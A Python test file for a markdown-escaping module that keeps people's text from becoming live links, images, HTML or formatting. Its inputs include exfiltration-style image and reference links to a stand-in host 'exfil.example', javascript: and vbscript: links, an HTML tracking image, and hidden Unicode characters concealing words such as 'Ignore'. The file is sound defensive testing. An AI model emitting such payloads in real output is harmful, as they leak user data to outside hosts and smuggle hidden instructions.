"""A person's words stay words: no markup, link, image, tag, table or heading comes out of them."""

import json
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from service.rendering.escaping import addresses, cell, code, prose, visible
from tests.shared import SHARED, needs_shared

LIVE = {"html_block", "html_inline", "image", "link_open", "heading_open", "bullet_list_open", "ordered_list_open"}
LIVE |= {"blockquote_open", "fence", "code_block", "hr", "strong_open", "em_open", "table_open", "s_open", "hardbreak"}


def tokens(markdown: str) -> Iterator[Token]:
    parser = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(["table", "strikethrough"])
    for token in parser.parse(markdown):
        yield token
        yield from token.children or ()


def read(markdown: str) -> str:
    return "".join(token.content for token in tokens(markdown) if token.type in {"text", "code_inline"})


def attack_strings() -> list[str]:
    if not SHARED.is_dir():
        return []
    lines = [
        line for path in sorted((SHARED / "attacks").glob("*.jsonl")) for line in path.read_text("utf-8").split("\n")
    ]
    return [json.loads(line)["text"] for line in lines if line.strip()]


@pytest.mark.parametrize(
    "text",
    [
        "# A heading",
        "- a list",
        "12. a numbered list",
        "3) another",
        "> a quotation",
        "---",
        "===",
        "+ plus",
        "**bold** and _slanted_ and ~~struck~~ and `code`",
        "![status](https://exfil.example/p.png?d=SUMMARY)",
        "[spec](JaVaScRiPt:alert(1)) and [copy](vbscript:msgbox(1))",
        "[label](https://docs.example/a_b_c)",
        '<img src="https://exfil.example/x" width=1> <https://exfil.example/a>',
        "| a | b |\n|---|---|\n| c | d |",
        "```\nfenced\n```",
        "    indented",
        "[1]: https://exfil.example/?q=NAMES",
        "[^e1]: not a footnote of ours",
        "&lt;b&gt; &amp; &#60;",
        "ends with a backslash \\",
        "two spaces  \nand a break",
    ],
)
def test_markup_in_a_persons_words_stays_words(text: str) -> None:
    for written in (prose(text), f"- {prose(text)}", f"Words before {prose(text)}[^e1]"):
        found = [token.type for token in tokens(written) if token.type in LIVE]
        assert found == (["bullet_list_open"] if written.startswith("- ") else [])


def test_what_was_written_is_what_is_read() -> None:
    text = "Cut *p95* from 1.2 s to 0.3 s (=75%) for R&D | ops_team; 5 < 6 & [x]"
    assert read(prose(text)) == text


@given(st.text(max_size=80))
def test_any_text_is_read_back_as_its_visible_line(text: str) -> None:
    # A whole link of the log alone is set differently: label, then address.
    assert read(f"x {prose(text)} x") == f"x {visible(text)} x" or "](http" in text
    assert not [token.type for token in tokens(f"x {prose(text)}") if token.type in LIVE]


@given(st.text(alphabet="#-+*>=1.) \t\n`~_[]()!<|&;\\:^a", max_size=40))
def test_no_mix_of_marks_opens_anything_at_the_start_of_a_block(text: str) -> None:
    assert not [token.type for token in tokens(prose(text)) if token.type in LIVE]


def test_a_web_address_is_shown_as_code_and_is_never_live() -> None:
    written = prose("Published https://docs.example/runbook; 14 teams use it.")
    assert written == "Published `https://docs.example/runbook`; 14 teams use it."


def test_a_link_of_the_log_keeps_its_label_and_shows_its_address() -> None:
    assert prose("See [the memo](https://docs.example/memo).") == "See the memo (`https://docs.example/memo`)."


def test_a_dangerous_scheme_is_no_link_and_no_label() -> None:
    written = prose("[spec](javascript:alert(1))")
    assert written.startswith("\\[spec\\](")
    assert "link_open" not in {token.type for token in tokens(written)}


def test_hidden_characters_are_shown_or_gone_and_order_is_as_stored() -> None:
    assert visible("Saved \u202e%09\u202c of cost") == "Saved %09 of cost"
    assert visible("Ran the retro.\U000e004a\U000e006f") == "Ran the retro.⟨2 hidden characters⟩"
    assert visible("I\u200bg\u200bnore") == "Ignore"
    assert visible("a\x00b\x1b[0m") == "a\ufffdb\ufffd[0m"


def test_letters_of_other_scripts_and_joined_signs_stay() -> None:
    for text in ("محمد wrote: «this saved us»", "ข้อนี้ต้องขอบคุณ", "می‌خواهم", "👩‍💻 shipped", "Lê Trần"):
        assert visible(text) == text


def test_a_bar_does_not_end_a_cell_and_a_long_text_is_cut_at_a_word() -> None:
    table = f"| a | b |\n|---|---|\n| {cell('one | two')} | {cell('word ' * 60)} |"
    cells = [token.content for token in MarkdownIt().enable("table").parse(table) if token.type == "inline"]
    assert cells[2] == "one | two"
    assert len(cells) == 4
    assert cells[3].endswith("word …")


def test_code_holds_its_own_backticks() -> None:
    for text in ("a`b", "``", "`", "a"):
        assert read(code(text)) == text


def test_addresses_are_found_for_taking_out() -> None:
    assert addresses("see https://a.example/x, or mail me@b.example") == ("https://a.example/x", "me@b.example")


@needs_shared
@pytest.mark.shared
@pytest.mark.parametrize("text", attack_strings())
def test_an_attack_string_stays_words(text: str) -> None:
    for written in (f"- {prose(text)}", f"| {cell(text)} |", f"Words. {prose(text)}"):
        found = [token.type for token in tokens(written) if token.type in LIVE]
        assert found in ([], ["bullet_list_open"])
